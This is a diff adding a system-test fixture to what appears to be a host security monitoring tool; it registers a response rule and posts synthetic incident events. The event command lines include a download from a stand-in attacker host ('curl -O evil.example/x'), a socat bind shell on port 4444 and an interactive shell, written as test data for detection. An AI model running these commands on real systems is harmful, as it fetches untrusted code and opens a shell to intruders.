@@ -6,6 +6,7 @@ import time
 from typing import Any
 
 import httpx
+from tests.system.running import wait_for
 
 POLICIES = """
 apiVersion: quell.dev/v1
@@ -56,6 +57,72 @@ _SEEN = (
     ("curl", "/usr/bin/curl", 1),
     ("python3", "/usr/bin/python3", 2),
 )
+
+
+#: The id of the night's trace, which comes from the flag that opens it.
+NIGHT = "d167addf3c764f34"
+NIGHT_RULE = """
+apiVersion: quell.dev/v1
+kind: ResponseRule
+metadata: {name: watch-list}
+spec:
+  event: incident
+  criteria: ["name:Host.Suspicious.Download"]
+  actions:
+    - makeRedFlag:
+        severity: high
+        impact: A program came from elsewhere
+        content: |
+          **Look first** at what was fetched:
+
+          1. `quell traces show` has the chain
+          2. the [runbook](https://runbooks.example/downloads) says whom to call
+
+          | host | owner |
+          |---|---|
+          | db-1 | storage |
+"""
+
+
+def with_a_night(admin: httpx.Client) -> None:
+    """Three programs below one shell of a backup, and the trace that they are."""
+    admin.post("/v1/documents", content=NIGHT_RULE).raise_for_status()
+    shell = [["backup.sh", "/bin/bash", "backup", 4600, 84_000], ["systemd", "/usr/lib/systemd/systemd", "root", 1, 1]]
+    for place, (name, command, ticks, lineage) in enumerate(
+        (
+            ("curl", "curl -O evil.example/x", 84_300, [["sh", "/bin/sh", "backup", 4700, 84_100], *shell]),
+            ("socat", "socat TCP-LISTEN:4444 EXEC:sh", 84_200, [["sh", "/bin/sh", "backup", 4700, 84_100], *shell]),
+            ("sh", "sh -i", 84_100, shell),
+        )
+    ):
+        event = {
+            "id": f"night-{place}",
+            "name": "Host.Suspicious.Download",
+            "category": "incident",
+            "level": "Critical",
+            "details": {"message": f"{command} is on the watch list"},
+            "subject": {
+                "node": "db-1",
+                "process": {
+                    "pid": 4700 if name == "sh" else 4711 + place,
+                    "start_ticks": ticks,
+                    "boot_id": "night",
+                    "name": name,
+                    "user": "backup",
+                    "cmdline": command,
+                    "lineage": lineage,
+                },
+            },
+        }
+        admin.post("/v1/events", json=event).raise_for_status()
+    wait_for(lambda: night(admin).get("flag_count") == 3, 60, "the night's trace")
+
+
+def night(admin: httpx.Client) -> dict[str, Any]:
+    """The trace; {}: it is not there yet."""
+    answer = admin.get(f"/v1/traces/{NIGHT}")
+    found: dict[str, Any] = answer.json() if answer.status_code == 200 else {}
+    return found
 
 
 def with_policies(admin: httpx.Client) -> None:
